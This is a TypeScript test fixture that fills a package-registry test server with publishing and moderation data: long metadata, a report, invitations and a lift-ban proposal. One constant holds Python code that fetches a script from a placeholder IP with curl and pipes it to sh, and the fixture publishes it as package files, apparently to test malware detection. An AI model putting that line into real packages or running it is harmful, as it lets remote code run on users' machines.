import assert from 'node:assert/strict';
import { type Publisher, publishFiles } from '../build.ts';
import { replaceInvitation } from '../../../src/store/rows/invitations.ts';
import { insertProposal } from '../../../src/store/rows/proposals.ts';
import { enqueueJob } from '../enqueue-job.ts';
import type { TestServer } from '../start-server.ts';

const shell = "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n";
const long = 'a-node-whose-id-is-as-long-as-anyone-would-ever-want-to-type-it-by-hand';

/** Adds what those who publish and moderate meet to a server that `fillSite` filled. */
export const fillDesk = async (server: TestServer, ada: Publisher): Promise<void> => {
  await publishFiles(server, ada, 'line-art', '1.0.0', { 'run.py': shell, 'tools/fetch.py': shell });
  await publishFiles(server, ada, long, '1.0.0-beta.20260107', { '__init__.py': '' });
  await ada.owner.put(`/publishers/${ada.id}/nodes/${long}`, {
    name: 'WordsThatNobodyBreaks'.repeat(4),
    description: 'Supercalifragilistic/'.repeat(30),
    author: 'x'.repeat(80),
    tags: ['a-tag-of-some-length', 'y'.repeat(60)],
    repository: `https://example.org/${'path/'.repeat(30)}`,
  });
  const report = { reason: 'other', text: 'The readme shows a picture of another node.' };
  const sent = await ada.owner.post('/nodes/image-tools/reports', report);
  assert.equal(sent.status, 200, sent.text);
  const invited = { email: 'grace@example.org', role: 'member' };
  assert.equal((await ada.owner.post(`/publishers/${ada.id}/members`, invited)).status, 201);
  await server.server.context.store.write({ actor: 'server' }, async (tx) => {
    const { id: inviterId } = (await (await server.user('owner-of-bob')).get('/users')).json;
    const to = { publisherId: 'bob', email: `owner-of-${ada.id}@example.org`, role: 'owner' as const };
    await replaceInvitation(tx, { ...to, inviterId, expiresAt: '9999-01-01T00:00:00.000Z' });
  });
  await server.server.context.store.write({ actor: 'server' }, async (tx) => {
    const { id: proposerId } = (await ada.owner.get('/users')).json;
    await insertProposal(tx, {
      moderation: 'publisher',
      params: { publisherId: 'bob' },
      body: { status: 'PublisherStatusActive', reason: 'They removed it.' },
      aim: 'lift-ban',
      subject: 'publisher:bob',
      about: 'bob',
      reason: 'They removed the copied node, and wrote to its author.',
      proposerId,
      expiresAt: '9999-01-01T00:00:00.000Z',
    });
  });
  await enqueueJob(server);
};
